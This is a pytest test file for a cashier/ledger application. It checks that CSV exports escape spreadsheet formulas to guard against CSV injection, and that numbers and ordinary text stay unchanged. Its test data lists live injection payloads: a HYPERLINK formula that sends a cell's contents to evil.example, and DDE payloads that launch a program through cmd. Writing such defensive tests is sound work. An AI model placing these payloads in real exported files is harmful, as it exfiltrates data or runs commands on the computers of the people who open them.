"""Every CSV the project writes is safe to open in a spreadsheet (issue 12, item 5; OWASP
"CSV Injection"): text that would start a formula is escaped, plain numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from cashier_desk.ledger.over_short import OverShort
from cashier_desk.money import Money
from cashier_desk.reports.exports import safe_cell, write_over_short

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_escaped(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-12.30", "12.30", "-0.25", "0", "-7", "W1-000001", "", "a=b"])
def test_numbers_and_ordinary_text_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


def test_the_over_short_file_holds_no_formula(tmp_path: Path) -> None:
    row = OverShort(
        business_date="2026-12-05",
        session="W1-S000001",
        workstation="W1",
        drawer='=HYPERLINK("http://x","y")',
        cashier="@amy",
        closed_at="+1",
        by_tender={
            "cash": Money.parse("-0.25"),
            "check": Money(0),
            "money_order": Money(0),
            "card": Money.parse("1.00"),
        },
        approved_by="-lee",
    )
    path = tmp_path / "os.csv"
    write_over_short([row], path)
    with path.open(encoding="utf-8", newline="") as fh:
        header, line = list(csv.reader(fh))
    cells = dict(zip(header, line, strict=True))
    assert cells["drawer"] == '\'=HYPERLINK("http://x","y")'
    assert (cells["cashier"], cells["closed_at"], cells["approved_by"]) == ("'@amy", "'+1", "'-lee")
    assert (cells["cash"], cells["card"], cells["total"]) == ("-0.25", "1.00", "0.75")
    for cell in line:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.replace(".", "").lstrip("-").isdigit(), cell


def test_every_csv_the_package_writes_goes_through_the_safe_writer() -> None:
    package = Path(__file__).resolve().parent.parent / "cashier_desk"
    writers = sorted(
        str(p.relative_to(package))
        for p in package.rglob("*.py")
        if "resources" not in p.parts  # the demo city's own generator, not the program's
        and (
            "csv.writer(" in p.read_text(encoding="utf-8")
            or "csv.DictWriter(" in p.read_text(encoding="utf-8")
        )
    )
    assert writers == ["reports/exports.py"]
